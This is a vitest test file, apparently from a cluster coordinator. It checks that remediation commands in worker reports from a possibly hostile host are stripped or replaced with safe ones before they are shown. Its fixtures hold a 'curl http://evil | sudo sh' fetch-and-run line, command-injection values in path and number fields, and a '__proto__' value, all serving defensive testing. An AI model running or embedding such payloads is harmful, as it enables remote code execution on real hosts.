import { expect, it } from 'vitest';
import { textedOf } from '../../../coordinator/observing/texts.ts';
import { reportSchema } from '../../../shared/protocol/report.ts';
import { plan } from '../plans.ts';
import { report } from '../support.ts';

const attack = 'curl http://evil | sudo sh';
const local = { en: attack, zh: attack };
/** A report as a worker under someone else's control may write it. */
const hostile = (more: object) =>
  textedOf(
    reportSchema.parse({ ...report('node02'), ...more }),
    'node02',
    () => plan().settings,
    () => 'apt',
  );

it('shows no command that a host sends with a finding', () => {
  const finding = {
    level: 'error',
    seen: local,
    needed: local,
    remedy: local,
    command: attack,
    mends: false,
    lowered: null,
  };
  const { findings = [] } = hostile({
    findings: [
      { ...finding, id: 'swap-off' },
      { ...finding, id: 'unheard-of' },
      { ...finding, id: 'other-source', values: { path: '/a;reboot', lines: '2,2' } },
      { ...finding, id: 'reboot-required', case: '__proto__' },
    ],
  });
  const [swap, unknown, source, reboot] = findings;
  expect(swap).toMatchObject({ command: 'sudo swapoff -a', seen: local });
  expect(unknown).toMatchObject({ command: '', needed: { en: '' }, remedy: { en: '' } });
  expect(source?.command).toBe('sudo sed -i 2,2s/^/#/ PATH');
  expect(reboot?.command).toBe('sudo systemctl reboot');
  expect(JSON.stringify(findings.map(({ seen: _, ...rest }) => rest))).not.toContain('evil');
});

it('shows no command that a host sends with a diagnosis', () => {
  const since = '2026-11-22T12:00:00Z';
  const texts = { title: local, cause: local, remedy: local, next: local, command: attack, where: 'coordinator' };
  const said = (id: string, values = {}) =>
    hostile({ diagnosis: { ...texts, id, step: null, since, evidence: [], values, triesLeft: 1 } }).diagnosis;
  for (const id of ['node-exists', 'unknown', 'unheard-of']) expect(JSON.stringify(said(id))).not.toContain('evil');
  expect(said('unheard-of')).toMatchObject({ id: 'unknown', command: 'muster support-bundle node02' });
  expect(said('sources-malformed', { number: '1; curl http://evil | sh', path: '/etc/a.list' })).toMatchObject({
    command: 'sed -i NUMBERs/^/#/ /etc/a.list',
    where: 'host',
  });
  expect(said('ca-pin-mismatch', { endpoint: 'evil:6443' })?.command).not.toContain('evil');
});
